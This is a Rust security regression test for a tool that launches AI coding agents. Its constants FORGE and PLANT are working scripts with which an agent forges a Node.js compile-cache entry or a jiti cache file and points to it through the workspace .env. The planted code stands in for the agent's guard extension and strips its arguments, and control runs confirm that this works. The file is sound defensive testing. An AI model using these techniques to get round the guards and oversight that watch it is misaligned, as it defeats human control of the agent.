//! The Node.js 24 compile cache attacked through a workspace `.env` (session-24 attack,
//! `docs/attacks/session-24-node-cache.md`): the agent forges a cache entry for pi's
//! `dist/cli.js` in the workspace and names its directory in `NODE_COMPILE_CACHE`; the user's
//! next `ags --agent pi --env-file .env` would run the agent's code in place of pi, without
//! ags's guard extension. The test performs the attack in the agent image and fails on the code
//! before the fix (the name was accepted then).
//!
//! Finding 2 of the same session: pi loads ags's guard extension through jiti, which keeps
//! the guard's transpiled code in `os.tmpdir()/jiti` and accepts a cache file there when its
//! text ends with the digest of the guard's source; a `TMPDIR` in the workspace's `.env`
//! would make pi load a module the agent planted in place of the guard.

use std::path::Path;

use crate::common;

use common::TestEnv;
use common::agents::{self, AGENT_IMAGE};
use common::launch::{assert_clean, stderr, stdout};
use common::{each_mode, show};

/// The forging steps, run by the agent in launch A (`python3 FORGE` in the workspace): pi's
/// `cli.js` with its first comment replaced by code of the same length (write the marker, drop
/// the `-e EXTENSION` pair from `process.argv`), compiled from the workspace into a scratch
/// cache, its 20-byte header (magic, source size, cache size, source CRC32, cache CRC32)
/// patched to the real file's size and CRC32 and stored under the real file's key in the cache
/// directory Node made for this uid; then the variable appended to the workspace's `.env`.
/// Node names an entry by the CRC32 of the code type (1, ESM) and the file's URL.
const FORGE: &str = r#"import os, struct, subprocess, zlib
W = os.getcwd()
real = os.path.realpath("/usr/local/bin/pi")
src = open(real).read()
s = src.index("/**"); e = src.index("*/", s) + 2
payload = ('import{writeFileSync as W}from"node:fs";let a=process.argv,k=a.indexOf("-e");'
           'if(k>0)a.splice(k,2);try{W("PWNED-compile-cache","uid="+process.getuid()+" "+a)}catch{}')
assert len(payload) <= e - s, (len(payload), e - s)
os.makedirs(W + "/.cache/evil", exist_ok=True)
open(W + "/.cache/evil/package.json", "w").write('{"type":"module"}')
evil = W + "/.cache/evil/cli.js"
open(evil, "w").write(src[:s] + payload + " " * (e - s - len(payload)) + src[e:])
ncc, scratch = W + "/.cache/ncc", W + "/.cache/scratch"
subprocess.run(["pi", "--version"], env=dict(os.environ, NODE_COMPILE_CACHE=ncc), check=True)
# Fails at the first import (no `undici` beside the copy): the module is compiled and cached first.
subprocess.run(["node", evil], env=dict(os.environ, NODE_COMPILE_CACHE=scratch), stderr=subprocess.DEVNULL)
(sub,) = os.listdir(ncc)
key = lambda path: "%08x" % zlib.crc32(b"\x01" + ("file://" + path).encode())
data = open(scratch + "/" + sub + "/" + key(evil), "rb").read()
orig = open(real, "rb").read()
h = list(struct.unpack("<5I", data[:20])); h[1] = len(orig); h[3] = zlib.crc32(orig)
open(ncc + "/" + sub + "/" + key(real), "wb").write(struct.pack("<5I", *h) + data[20:])
open(W + "/.env", "a").write("NODE_COMPILE_CACHE=" + ncc + "\n")
print("forged", sub, key(real))
"#;

/// The marker the forged entry writes into the working directory when it runs.
const MARKER: &str = "PWNED-compile-cache";

/// Launch A forges the entry and names it in `.env`; launch B, the user's `ags --agent pi
/// --env-file .env -- --version`, is refused with 125 naming the variable and the planted code
/// does not run. The control, pi started by hand with the variable in an `--agent shell`
/// launch (ags cannot refuse a variable a shell sets inside), runs the planted code and drops
/// the `-e` pair: the forged entry works on this image, so the refusal is what stops it.
#[test]
fn a_forged_compile_cache_named_in_an_env_file_is_refused() {
    each_mode(|env| {
        if !common::api::image_exists(&env.mode().socket(), AGENT_IMAGE).unwrap_or(false) {
            println!("SKIP: {}: no {AGENT_IMAGE} in this service", env.mode());
            return;
        }
        let work = env.work_dir();
        env.write_file(work.join("forge.py"), FORGE, 0o644);
        let out = launch(env, "shell", &[], &["python3", "forge.py"]);
        assert_eq!(out.status.code(), Some(0), "launch A: {}", show(&out));
        assert!(stdout(&out).contains("forged"), "launch A: {}", show(&out));
        let ncc = format!("NODE_COMPILE_CACHE={}", work.join(".cache/ncc").display());
        let dotenv = std::fs::read_to_string(work.join(".env")).expect("the workspace's .env");
        assert!(dotenv.lines().any(|l| l == ncc), "{dotenv}");
        assert!(!work.join(MARKER).exists(), "launch A ran the forged entry");

        let out = launch(env, "pi", &["--env-file", ".env"], &["--version"]);
        let said = std::fs::read_to_string(work.join(MARKER)).unwrap_or_default();
        assert!(
            said.is_empty(),
            "launch B ran the forged entry ({said}): {}",
            show(&out)
        );
        assert_eq!(out.status.code(), Some(125), "launch B: {}", show(&out));
        assert!(
            stderr(&out).contains("NODE_COMPILE_CACHE"),
            "launch B: {}",
            show(&out)
        );

        control(env, &work, &ncc);
        common::api::cleanup_state_volumes_under(env.mode(), &work);
        assert_clean(env);
    });
}

/// The control: pi with the forged cache and an `-e` pair, started in an `--agent shell`
/// launch, runs the planted code, which drops the pair before pi reads its arguments.
fn control(env: &TestEnv, work: &Path, ncc: &str) {
    let pi = format!("{ncc} pi -e ags-guard.js --version");
    let out = launch(env, "shell", &[], &["sh", "-c", &pi]);
    assert_eq!(out.status.code(), Some(0), "control: {}", show(&out));
    let said = std::fs::read_to_string(work.join(MARKER))
        .unwrap_or_else(|e| panic!("the forged entry did not run ({e}): {}", show(&out)));
    assert!(said.starts_with("uid="), "{said}");
    assert!(said.ends_with(",--version"), "{said}");
    assert!(!said.contains("ags-guard.js"), "the -e pair stayed: {said}");
}

/// `ags` running `agent` in the agent image ([`agents::agent_args`]) with `flags` and `args`.
fn launch(env: &TestEnv, agent: &str, flags: &[&str], args: &[&str]) -> std::process::Output {
    let owned = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    env.run(agents::agent_args(env, agent, &owned(flags), &owned(args)))
}

/// The planting steps, run by the agent (`python3 PLANT SOURCE TARGET DIR` in the workspace):
/// the cache file jiti 2.7 looks for when it loads `TARGET` with `DIR` as the temporary
/// directory, `DIR/jiti/<parent dir>-<file stem>.<md5 of TARGET, 8 digits>.mjs`, holding a
/// module that exports an empty extension and writes the marker, ending with the line jiti
/// checks, ` /* v9-<md5 of the source, 16 digits> */` (the source is read from `SOURCE`).
const PLANT: &str = r#"import hashlib, os, sys
source, target, tmp = sys.argv[1], sys.argv[2], os.path.abspath(sys.argv[3])
md5 = lambda b, n=8: hashlib.md5(b).hexdigest()[:n]
parent, file = os.path.split(target)
name = "%s-%s.%s.mjs" % (os.path.basename(parent), os.path.splitext(file)[0], md5(target.encode()))
payload = ('"use strict";Object.defineProperty(exports,"__esModule",{value:true});'
           'exports.default=function(){};try{require("node:fs").writeFileSync("PWNED-jiti",'
           '"uid="+process.getuid()+" "+process.argv)}catch{}')
os.makedirs(tmp + "/jiti", exist_ok=True)
digest = md5(open(source, "rb").read(), 16)
open(tmp + "/jiti/" + name, "w").write(payload + " /* v9-" + digest + " */\n")
print("planted", name)
"#;

/// The marker the planted module writes into the working directory when pi loads it.
const JITI_MARKER: &str = "PWNED-jiti";

/// Launch A plants a cache file for the guard and names its directory in `.env`; launch B, the
/// user's `ags --agent pi --env-file .env -- --list-models`, is refused with 125 naming
/// `TMPDIR` and the planted module does not run (`--list-models` loads the extensions,
/// `--version` exits before). The control, pi started by hand with `TMPDIR` in an `--agent
/// shell` launch on a copy of the guard, loads the planted module: the cache file works on
/// this image, so the refusal is what stops it.
#[test]
fn a_planted_jiti_cache_named_by_tmpdir_in_an_env_file_is_refused() {
    each_mode(|env| {
        if !common::api::image_exists(&env.mode().socket(), AGENT_IMAGE).unwrap_or(false) {
            println!("SKIP: {}: no {AGENT_IMAGE} in this service", env.mode());
            return;
        }
        let work = env.work_dir();
        env.write_file(work.join("plant.py"), PLANT, 0o644);
        // The agent needs the guard's source for its digest. A shell launch has no guard
        // mounted; any `--agent pi` launch lets the agent read it (`cat` through pi's bash
        // tool), and it is the same text at every launch: ags generates it from a fixed table.
        // The test takes that text from the crate's own generator instead of a model session,
        // as the copy the agent saved in an earlier pi launch.
        env.write_file(work.join("guard-source.js"), guard_source(), 0o644);
        let plant = "python3 plant.py guard-source.js /etc/ags-agent-hooks/pi-extension.js .t \
                     && echo \"TMPDIR=$PWD/.t\" >> .env";
        let out = launch(env, "shell", &[], &["sh", "-c", plant]);
        assert_eq!(out.status.code(), Some(0), "launch A: {}", show(&out));
        assert!(stdout(&out).contains("planted"), "launch A: {}", show(&out));
        let tmpdir = format!("TMPDIR={}", work.join(".t").display());
        let dotenv = std::fs::read_to_string(work.join(".env")).expect("the workspace's .env");
        assert!(dotenv.lines().any(|l| l == tmpdir), "{dotenv}");
        assert!(
            !work.join(JITI_MARKER).exists(),
            "launch A ran the planted module"
        );

        let out = launch(env, "pi", &["--env-file", ".env"], &["--list-models"]);
        let said = std::fs::read_to_string(work.join(JITI_MARKER)).unwrap_or_default();
        assert!(
            said.is_empty(),
            "launch B loaded the planted module ({said}): {}",
            show(&out)
        );
        assert_eq!(out.status.code(), Some(125), "launch B: {}", show(&out));
        assert!(stderr(&out).contains("TMPDIR"), "launch B: {}", show(&out));

        jiti_control(env, &work);
        common::api::cleanup_state_volumes_under(env.mode(), &work);
        assert_clean(env);
    });
}

/// The text of `/etc/ags-agent-hooks/pi-extension.js` in a pi launch.
fn guard_source() -> String {
    let wiring = ags::agent_hooks::wiring::generate("pi", "t").expect("pi has wiring");
    let guard = ags::agent_hooks::wiring::PI_EXTENSION;
    let file = wiring.files.iter().find(|f| f.destination == guard);
    file.expect("the guard extension").content.clone()
}

/// The control: a copy of the guard at `ctl/ags-agent-hooks/pi-extension.js` (same source,
/// so same digest; the path is the only other input of the name), a cache file planted for
/// that path the same way, and pi started on it with `TMPDIR` in an `--agent shell` launch,
/// as ags starts it (`--no-extensions -e GUARD`): pi loads the planted module.
fn jiti_control(env: &TestEnv, work: &Path) {
    let copy = work.join("ctl/ags-agent-hooks/pi-extension.js");
    env.write_file(&copy, guard_source(), 0o644);
    let copy = copy.display().to_string();
    let pi = format!(
        "python3 plant.py guard-source.js {copy} .tc && \
         TMPDIR=$PWD/.tc pi --no-extensions -e {copy} --list-models"
    );
    let out = launch(env, "shell", &[], &["sh", "-c", &pi]);
    assert_eq!(out.status.code(), Some(0), "control: {}", show(&out));
    let said = std::fs::read_to_string(work.join(JITI_MARKER))
        .unwrap_or_else(|e| panic!("the planted module did not load ({e}): {}", show(&out)));
    assert!(said.starts_with("uid="), "{said}");
    assert!(said.ends_with(&format!(",-e,{copy},--list-models")), "{said}");
}
